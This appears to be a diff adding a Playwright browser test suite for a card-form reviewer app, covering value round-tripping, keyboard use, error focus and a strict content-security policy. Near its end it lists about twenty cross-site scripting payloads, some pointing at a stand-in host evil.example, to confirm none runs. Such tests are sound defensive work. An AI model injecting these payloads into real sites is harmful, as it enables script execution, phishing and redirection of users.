@@ -1,0 +1,277 @@
+"""Forms in a real Chromium, under the strict policy of the real pages: what it posts, what runs, what the keyboard can do.
+
+The page around a form is made here; the forms, the styles and the script are the real ones.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+import pytest
+from django.conf import settings
+from django.utils.html import format_html
+from playwright.sync_api import Browser, Page, Route
+
+from reviewer import cards
+from reviewer.cards import render
+from tests.cards.browser import Post
+from tests.cards.making import SAMPLES, Reviewer, card_of, schema_of, tool_card
+
+SITE = "http://cards.test"
+POLICY = (
+    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; font-src 'self'; "
+    "base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
+)
+STATIC = Path(settings.STATICFILES_DIRS[0])
+TYPES = {".css": "text/css", ".js": "text/javascript", ".svg": "image/svg+xml", ".woff2": "font/woff2"}
+AT = "/edited_action/args"
+
+pytestmark = pytest.mark.browser
+
+
+class Desk:
+    """A site of one page with one form on it, answering as the real one does."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.reviewer: Reviewer | None = None
+        self.complaints: list[str] = []
+        page.on("console", lambda message: self.complaints.append(message.text))
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        page.route(f"{SITE}/**", self.answer)
+
+    def open(self, reviewer: Reviewer) -> Page:
+        self.reviewer = reviewer
+        self.page.goto(f"{SITE}/")
+        return self.page
+
+    @property
+    def reading(self) -> cards.Reading:
+        assert self.reviewer is not None
+        assert self.reviewer.reading is not None
+        return self.reviewer.reading
+
+    def answer(self, route: Route) -> None:
+        path = urlsplit(route.request.url).path
+        file = STATIC / path.removeprefix("/static/")
+        if path.startswith("/static/") and file.is_file():
+            route.fulfill(body=file.read_bytes(), content_type=TYPES[file.suffix])
+            return
+        assert self.reviewer is not None
+        if route.request.method == "POST":
+            fields = parse_qs(route.request.post_data or "", keep_blank_values=True)
+            self.reviewer._read(Post(fields))
+        reading = self.reviewer.reading
+        status = 422 if reading and reading.errors and not reading.is_op else 200
+        headers = {"Content-Security-Policy": POLICY}
+        route.fulfill(
+            status=status, body=self.html(), content_type="text/html; charset=utf-8", headers=headers
+        )
+
+    def html(self) -> str:
+        assert self.reviewer is not None
+        reading, card = self.reviewer.reading, self.reviewer.card
+        return format_html(
+            '<!doctype html><html lang="en"><head><title>Card</title><link rel="icon" href="data:,">'
+            '<link rel="stylesheet" href="/static/css/app.css"><script type="module" src="/static/js/card.js"></script>'
+            '</head><body><main class="page"><h1>{}</h1>{}<form method="post" action="/" novalidate data-card-form>{}'
+            '<button data-send class="btn btn--primary">Send</button></form><div data-card-diff>{}</div></main>',
+            card.title if card else "Form",
+            render.render_arguments(card) if card else "",
+            self.reviewer.html_safe,
+            render.render_diff(reading.changes if reading else ()),
+        )
+
+
+@pytest.fixture
+def desk_of(browser: Browser) -> Iterator[Callable[..., Desk]]:
+    desks: list[Desk] = []
+
+    def opened(**options: Any) -> Desk:
+        desks.append(Desk(browser.new_context(**options).new_page()))
+        return desks[-1]
+
+    yield opened
+    assert [complaint for desk in desks for complaint in desk.complaints if "422" not in complaint] == []
+
+
+@pytest.mark.parametrize("scripts", [True, False])
+def test_chromium_posts_every_sample_back_untouched(desk_of: Callable[..., Desk], scripts: bool) -> None:
+    desk = desk_of(java_script_enabled=scripts)
+    for sample in SAMPLES.values():
+        if sample.get("initial") is None:
+            continue
+        page = desk.open(Reviewer.before(schema_of(sample), sample["initial"]))
+        page.click("[data-send]")
+        assert json.dumps(desk.reading.answer) == json.dumps(sample["initial"])
+
+
+def test_text_that_browsers_mangle_comes_back_as_it_was(desk_of: Callable[..., Desk]) -> None:
+    values = [
+        "\nleading",
+        "trailing\n",
+        "a\r\nb",
+        "a\rb",
+        "\t tab ",
+        "  ",
+        "\x00",
+        "\ud800",
+        "007",
+        "a\u2028b",
+        "<b>&amp;</b>",
+        "é\u0301",
+    ]
+    schema = {"type": "array", "items": {"type": "string"}}
+    desk = desk_of()
+    desk.open(Reviewer.before(schema, values)).click("[data-send]")
+    assert desk.reading.answer == values
+
+
+def test_choosing_a_kind_shows_its_fields_at_once_and_keeps_what_was_typed(
+    desk_of: Callable[..., Desk],
+) -> None:
+    desk = desk_of()
+    page = desk.open(Reviewer.at(card_of(SAMPLES["06_pay_nested_discriminator"])))
+    page.fill(f'[name="v:{AT}/method/~1/iban"]', "DE99")
+    page.get_by_text("Apple / Google", exact=True).click()
+    page.get_by_text("google", exact=True).click()
+    page.fill(f'[name="v:{AT}/method/~2/token"]', "tok")
+    page.click("[data-send]")
+    assert desk.reading.errors == ()
+    assert desk.reading.answer["edited_action"]["args"]["method"] == {"kind": "google", "token": "tok"}
+
+
+def test_the_difference_follows_the_typing_and_the_typing_is_left_alone(desk_of: Callable[..., Desk]) -> None:
+    desk = desk_of()
+    page = desk.open(Reviewer.at(card_of(SAMPLES["01_send_email"])))
+    field = page.locator(f'[name="v:{AT}/subject"]')
+    field.click()
+    page.keyboard.press("End")
+    page.keyboard.type(" and more")
+    page.locator("[data-card-diff] ins").wait_for()
+    assert "and more" in page.locator("[data-card-diff]").inner_text()
+    page.keyboard.type("!")
+    assert field.input_value().endswith(" and more!")
+    assert field.evaluate("node => node === document.activeElement")
+
+
+def test_null_puts_the_control_away_without_a_script(desk_of: Callable[..., Desk]) -> None:
+    schema = {"type": "object", "properties": {"x": {"type": ["string", "null"]}}, "required": ["x"]}
+    desk = desk_of(java_script_enabled=False)
+    page = desk.open(Reviewer.before(schema, {"x": "a"}))
+    assert page.locator('[name="v:/x"]').is_visible()
+    page.get_by_text("Null", exact=True).click()
+    assert not page.locator('[name="v:/x"]').is_visible()
+    page.click("[data-send]")
+    assert desk.reading.answer == {"x": None}
+
+
+def test_enter_in_a_field_never_decides(desk_of: Callable[..., Desk]) -> None:
+    desk = desk_of()
+    page = desk.open(Reviewer.at(card_of(SAMPLES["01_send_email"])))
+    page.fill(f'[name="v:{AT}/subject"]', "other")
+    with page.expect_navigation():
+        page.press(f'[name="v:{AT}/subject"]', "Enter")
+    assert desk.reading.is_op
+    with page.expect_navigation():
+        page.press(f'[name="v:{AT}/subject"]', "Control+Enter")
+    assert not desk.reading.is_op
+    assert desk.reading.errors == ()
+
+
+def test_errors_take_the_focus_and_lead_to_their_fields(desk_of: Callable[..., Desk]) -> None:
+    desk = desk_of()
+    page = desk.open(Reviewer.at(card_of(SAMPLES["03_meeting_nested_arrays"])))
+    page.fill(f'[name="v:{AT}/duration"]', "9995")
+    page.click("[data-send]")
+    page.locator('[role="alert"]:focus').wait_for()
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    page.locator(f'[name="v:{AT}/duration"]:focus').wait_for()
+
+
+def test_the_keyboard_alone_fills_the_most_complex_form(desk_of: Callable[..., Desk]) -> None:
+    desk = desk_of()
+    page = desk.open(Reviewer.at(card_of(SAMPLES["03_meeting_nested_arrays"])))
+
+    def reach(selector: str) -> None:
+        for _ in range(120):
+            page.keyboard.press("Tab")
+            if page.evaluate("selector => document.activeElement.matches(selector)", selector):
+                return
+        raise AssertionError(f"{selector} cannot be reached")
+
+    reach(f'[value="add:{AT}/attendees"]')
+    with page.expect_navigation():
+        page.keyboard.press("Enter")
+    page.locator(f'[name="v:{AT}/attendees/n1/name"]:focus').wait_for()
+    page.keyboard.type("Cy")
+    reach(f'[name="v:{AT}/attendees/n1/email"]')
+    page.keyboard.type("cy@ex.org")
+    page.evaluate("document.activeElement.blur()")
+    reach(f'[value="up:{AT}/attendees/n1"]')
+    with page.expect_navigation():
+        page.keyboard.press("Enter")
+    page.evaluate("document.activeElement.blur()")
+    reach(f'[name="s:{AT}/location"]')
+    with page.expect_navigation():
+        page.keyboard.press("ArrowRight")
+    page.evaluate("document.activeElement.blur()")
+    reach("[data-send]")
+    with page.expect_navigation():
+        page.keyboard.press("Enter")
+    args = desk.reading.answer["edited_action"]["args"]
+    assert desk.reading.errors == ()
+    assert [person["name"] for person in args["attendees"]] == ["Ann", "Cy", "Bo"]
+    assert args["location"] is None
+
+
+XSS = [
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    '"><svg onload="window.pwned = 1">',
+    "'><iframe srcdoc='<script>parent.pwned = 1</script>'>",
+    "</textarea><script>window.pwned = 1</script>",
+    "</title><script>window.pwned = 1</script>",
+    "<a href='javascript:window.pwned = 1'>x</a>",
+    "<style>@import 'http://evil.example/'</style>",
+    "<div hx-get=/x hx-trigger=load></div>",
+    "<form action=http://evil.example><button>Approve</button></form>",
+    "<base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "{{constructor.constructor('window.pwned = 1')()}}",
+    "${window.pwned = 1}",
+    "\u202e<script>window.pwned = 1</script>",
+    "<math><mi//xlink:href='data:x,<script>window.pwned = 1</script>'>",
+    "--><script>window.pwned = 1</script><!--",
+    "]]><script>window.pwned = 1</script>",
+    "\x00<script>window.pwned = 1</script>",
+    "<input autofocus onfocus='window.pwned = 1'>",
+]
+
+
+def test_nothing_that_an_agent_or_a_schema_writes_is_ever_run(desk_of: Callable[..., Desk]) -> None:
+    desk = desk_of()
+    schema = {
+        "type": "object",
+        "title": XSS[0],
+        "properties": {
+            text: {"type": "string", "title": text, "description": text, "default": text} for text in XSS
+        },
+        "additionalProperties": {"enum": XSS, "title": XSS[1]},
+    }
+    args = {**{text: text for text in XSS[::2]}, "other": XSS[3]}
+    page = desk.open(Reviewer.at(tool_card(schema, args, tool=XSS[0], description=XSS[2])))
+    page.click("[data-send]")
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.pwned") is None
+    assert (
+        page.evaluate(
+            "document.querySelectorAll('main script, main img, main iframe, main [onerror], main base').length"
+        )
+        == 0
+    )
